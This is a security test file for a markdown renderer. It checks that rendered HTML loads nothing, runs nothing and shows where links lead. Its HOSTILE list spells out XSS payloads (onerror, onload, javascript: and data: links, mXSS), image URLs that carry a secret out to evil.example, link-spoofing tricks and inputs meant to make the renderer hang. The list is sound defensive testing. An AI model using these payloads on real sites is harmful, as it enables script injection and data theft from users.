"""What must never come out, whatever goes in: nothing is loaded, nothing runs, links lead where they may."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.markdown import blocks, html
from shared.markdown.render import RENDERED_CHARACTERS

ALLOWED = {
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "s",
}
ALLOWED |= {"span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"}
ATTRIBUTES = {"href", "rel", "class", "start", "align"}


class Looked(HTMLParser):
    """Every element and attribute that a browser would see."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    @property
    def links(self) -> list[str]:
        return [attrs["href"] or "" for tag, attrs in self.elements if "href" in attrs and tag == "a"]


def check(markup: str) -> Looked:
    looked = Looked(markup)
    for tag, attrs in looked.elements:
        assert tag in ALLOWED, (tag, markup)
        assert set(attrs) <= ATTRIBUTES, (attrs, markup)
        if "href" in attrs:
            address = attrs["href"] or ""
            assert address.startswith(("#/notes/", "#/documents/")) or urlsplit(address).scheme in (
                "http",
                "https",
                "mailto",
            ), markup
            if not address.startswith("#"):
                assert attrs["rel"] == "noopener noreferrer"
    return looked


HOSTILE = (
    "![x](https://evil.example/p?d=SECRET)",
    "![x][r]\n\n[r]: https://evil.example/p?d=SECRET",
    "![x](//evil.example/p?d=SECRET)",
    '[![x](https://evil.example/p)](https://evil.example "t")',
    '<img src="https://evil.example/p">',
    '<picture><source srcset="https://evil.example/p"></picture>',
    '<video poster="https://evil.example/p"></video><audio src=//evil.example></audio>',
    '<input type=image src="https://evil.example/p"><svg><image href="https://evil.example/p"/></svg>',
    '<object data="https://evil.example/p"></object><embed src="https://evil.example/p">',
    '<div style="background:url(https://evil.example/?SECRET)">x</div>',
    "<style>@import url(https://evil.example/);</style>\n\n<link rel=dns-prefetch href=//secret.evil.example>",
    "[c](javascript:alert(1))",
    "[c](java&#115;cript:alert(1))",
    "[c](java&Tab;script:alert(1))",
    "[c](&#1;javascript:alert(1))",
    "[c](JaVaScRiPt:alert(1))",
    "[c](vbscript:msgbox(1))",
    "[c](data:text/html;base64,PHNjcmlwdD4=)",
    "[c](data:image/svg+xml;base64,PHN2Zz4=)",
    "![c](data:image/svg+xml;base64,PHN2Zz4=)",
    "[c](file:///etc/passwd) [d](blob:https://x) [e](//evil.example) [f](\\\\evil.example)",
    "<javascript:alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<form action=https://evil.example><button>go</button></form>",
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">',
    "<script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "[x](https://a.example/\"onmouseover=alert(1)) [y](<https://a.example/' onclick='x>)",
    '[x](https://a.example "a\\" onclick=alert(1) b")',
    '```js" onload=alert(1)\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "| a | b |\n|:-:|---|\n| <img src=x> | [x](javascript:1) |",
    "<a id=x name=y href=https://evil.example onclick=alert(1)>x</a>",
    "[x](#/settings) [y](#main) [z](/api/v1/notes) [w](notes/1)",
    "[x](#/notes/../settings) [y](memex://notes/a/b)",
    "\x1b]8;;https://evil.example\x07x\x1b[31m\r\n[ERROR] forged",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    '$\\href{javascript:alert(1)}{x}$\n\n```mermaid\nclick A href "javascript:alert(1)"\n```',
)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_loads_nothing_and_runs_nothing(text: str) -> None:
    for markup in (html(text), "".join([*blocks(text).finished, blocks(text).tail])):
        looked = check(markup)
        for word in ("<img", "<script", "<svg", "<style", "<iframe", "<form", "onerror=alert(1)>'", "<!--"):
            assert word not in markup.lower(), markup
        assert "\x1b" not in looked.text


PIECES = [
    *"<>[]()!&\"'`#:/\\= \nax|-*_~\t\x00\u202e",
    "javascript:",
    "http://",
    "img src=",
    "memex://notes/",
    "](",
    "&#1;",
]


@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
@settings(max_examples=200, deadline=None)
def test_no_text_at_all_comes_out_as_anything_else(text: str) -> None:
    check(html(text))
    made = blocks(text)
    check("".join([*made.finished, made.tail]))


def test_an_image_is_a_link_that_says_where_to() -> None:
    looked = check(html("![a chart](https://pictures.example/p.png?x=1)"))
    assert looked.links == ["https://pictures.example/p.png?x=1"]
    assert "image: a chart" in looked.text and "pictures.example" in looked.text


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("[https://bank.example](https://evil.example/x)", "evil.example"),
        ("[bank.example](https://bank.example@evil.example/)", "evil.example"),
        ("[paypal](https://р\u0430ypal.example)", "xn--"),
        ("[\u202emoc.knab](https://evil.example)", "evil.example"),
    ],
)
def test_the_host_that_a_link_leads_to_is_shown(text: str, host: str) -> None:
    looked = check(html(text))
    assert host in looked.text and "\u202e" not in looked.text


def test_a_link_that_shows_its_host_is_left_as_it_is() -> None:
    assert check(html("<https://a.example/x>")).text.strip() == "https://a.example/x"


def test_a_query_that_carries_something_out_is_taken_off() -> None:
    assert check(html(f"[x](https://known.example/p?d={'S' * 2000})")).links == ["https://known.example/p"]
    assert check(html("[x](https://known.example/p?page=2)")).links == ["https://known.example/p?page=2"]


@pytest.mark.parametrize(
    "text",
    [
        "[" * 60_000,
        "![" * 30_000,
        "- a\n" * 20_000,
        "> " * 20_000,
        "*a " * 20_000,
        "&" * 50_000,
        "a|" * 20_000,
        "`" * 60_000,
    ],
    ids=["brackets", "images", "list", "quotes", "emphasis", "entities", "table", "ticks"],
)
def test_no_text_takes_for_ever(text: str) -> None:
    began = time.process_time()
    check(html(text))
    assert time.process_time() - began < 12


def test_what_is_too_long_to_be_rendered_is_there_as_plain_text() -> None:
    text = ("word " * 200 + "\n\n") * (RENDERED_CHARACTERS // 1000 + 5) + "<b>the end</b>"
    looked = check(html(text))
    assert looked.text.rstrip().endswith("<b>the end</b>") and looked.elements[-1][0] == "pre"
